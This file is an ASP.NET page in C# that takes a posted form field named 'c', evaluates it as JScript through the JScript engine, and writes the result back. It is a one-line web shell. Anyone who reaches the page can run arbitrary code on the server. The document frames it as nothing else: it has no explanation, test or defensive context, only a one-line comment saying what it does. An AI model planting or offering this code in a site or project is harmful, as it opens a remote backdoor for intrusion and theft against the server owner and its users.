<%@ Page Language="C#" %>
<%
    // evaluates posted JScript through the JScript engine from a C# page
    object r = Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
    Response.Write(r);
%>
